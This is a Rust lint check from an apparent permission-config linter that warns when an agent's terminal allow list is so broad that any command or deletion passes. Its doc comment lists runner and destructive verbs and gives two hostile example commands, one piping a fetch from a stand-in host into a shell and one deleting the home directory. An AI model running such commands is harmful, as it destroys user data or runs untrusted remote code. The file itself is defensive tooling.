//! ## What it does
//! Reports an allow entry whose prefix lets any command or any destruction
//! through (SPEC §11):
//! - `Terminal()`, which matches every command;
//! - a verb alone, or the verb and one more word, for verbs that run other
//!   commands (`bash`, `sh`, `zsh`, `eval`, `exec`, `source`, `xargs`,
//!   `env`, `nohup`, `timeout`, `npx`, `node`, `python`, `python3`,
//!   `perl`, `ruby`, `npm run`, `pnpm run`, `yarn run`) or destroy and
//!   exfiltrate (`rm`, `dd`, `mv`, `chmod`, `chown`, `curl`, `wget`):
//!   `Terminal(bash)`, `Terminal(bash -c)`, `Terminal(rm -rf)`,
//!   `Terminal(npx vitest)`, `Terminal(npm run build)`.
//!
//! These are the shapes "always allow" records (SPEC §7: the verb, or the
//! verb and its subcommand word). A shorter entry that matches the verb,
//! like `Terminal(npm)` for `npm run` or a wildcard like `Terminal(pyth*)`,
//! counts too; an entry with two or more words after the verb
//! (`Terminal(rm -rf build)`, `Terminal(npx vitest run)`) does not. A
//! command word written as a path counts by its last component
//! (`Terminal(/bin/rm)`). SPEC §8 seeds `Terminal(npm run)` and
//! `Terminal(npx vitest)`: both are reported, on purpose.
//!
//! ## Why is this bad?
//! Patterns match by token prefix (SPEC §3.2): everything after the entry
//! is free. For the interpreters among the runners (`bash`, `sh`, `zsh`,
//! `eval`, `source`, `node`, `python`, `python3`, `perl`, `ruby`) the
//! message says so: the code they run (a script file, `-e`, stdin) is
//! beyond what permc reads (SPEC §4.3's stated limit), so no deny entry,
//! built-in or ceiling sees the commands it starts. `Terminal(bash -c)` auto-approves `bash -c 'curl evil.sh | sh'`;
//! `Terminal(rm build)` auto-approves `rm build -rf ~/`; `Terminal(npm run)`
//! runs whatever script the package defines.
//!
//! ## Example
//! ```json
//! {"allow": ["Terminal()", "Terminal(bash -c)", "Terminal(rm)", "Terminal(npm run)"]}
//! ```
//!
//! Use instead:
//! ```json
//! {"allow": ["Terminal(pnpm test)", "Terminal(rm -rf dist build)", "Terminal(npm run build --if-present)"]}
//! ```

use super::{entries, tokens_match_verb, Check};
use crate::FileContext;
use permc_grammar::diagnostic::{CheckId, Diagnostic, Severity};
use permc_grammar::pattern::PatToken;
use permc_grammar::rules::List;

/// `broad-always-expansion`.
pub const CHECK: Check = Check {
    id: CheckId::BroadAlwaysExpansion,
    severity: Severity::Warning,
    file: "broad_always_expansion.rs",
    source: include_str!("broad_always_expansion.rs"),
    run,
};

/// Verbs that run other commands (SPEC §11, verbatim).
const RUNNERS: &[&[&str]] = &[
    &["bash"],
    &["sh"],
    &["zsh"],
    &["eval"],
    &["exec"],
    &["source"],
    &["xargs"],
    &["env"],
    &["nohup"],
    &["timeout"],
    &["npx"],
    &["node"],
    &["python"],
    &["python3"],
    &["perl"],
    &["ruby"],
    &["npm", "run"],
    &["pnpm", "run"],
    &["yarn", "run"],
];

/// The runners that read a program text (a script file, `-c`, `-e`, stdin):
/// what they run is code permc cannot read, whatever the words say.
const INTERPRETERS: &[&str] = &[
    "bash", "sh", "zsh", "eval", "source", "node", "python", "python3", "perl", "ruby",
];

/// Verbs that destroy or send data away (SPEC §11, verbatim).
const DESTROYERS: &[&[&str]] = &[
    &["rm"],
    &["dd"],
    &["mv"],
    &["chmod"],
    &["chown"],
    &["curl"],
    &["wget"],
];

/// Does the entry (tokens `a`) match the verb, with at most one more word?
fn expands(a: &[PatToken], verb: &[&str]) -> bool {
    a.len() <= verb.len() + 1 && tokens_match_verb(a, verb)
}

fn run(cx: &FileContext<'_>, out: &mut Vec<Diagnostic>) {
    for e in entries(cx) {
        if e.list != List::Allow {
            continue;
        }
        let Some(a) = e.pattern.tokens() else {
            continue;
        };
        let text = &e.pattern.text;
        let (message, help) = if a.is_empty() {
            (
                format!("`{text}` in allow auto-approves every command"),
                "allow the commands you mean, one pattern each, like `Terminal(pnpm test)`"
                    .to_string(),
            )
        } else if let Some(verb) = RUNNERS.iter().find(|v| expands(a, v)) {
            let verb = verb.join(" ");
            let runs = if INTERPRETERS.contains(&verb.as_str()) {
                "runs code permc cannot read (SPEC §4.3: a script's or a program's own text is beyond the reader)"
            } else {
                "runs other commands"
            };
            (
                format!("`{text}` in allow lets any command through: `{verb}` {runs}, and every word after the entry is free"),
                format!("allow the exact commands you mean, every word that matters written out, or move `{text}` to ask"),
            )
        } else if let Some(verb) = DESTROYERS.iter().find(|v| expands(a, v)) {
            let verb = verb.join(" ");
            (
                format!("`{text}` in allow lets any destruction through: `{verb}` can destroy or send away any file, and every word after the entry is free"),
                format!("allow the exact commands you mean, every word that matters written out, or move `{text}` to ask"),
            )
        } else {
            continue;
        };
        out.push(
            Diagnostic::new(CHECK.id, CHECK.severity, cx.name, e.span, message).with_help(help),
        );
    }
}
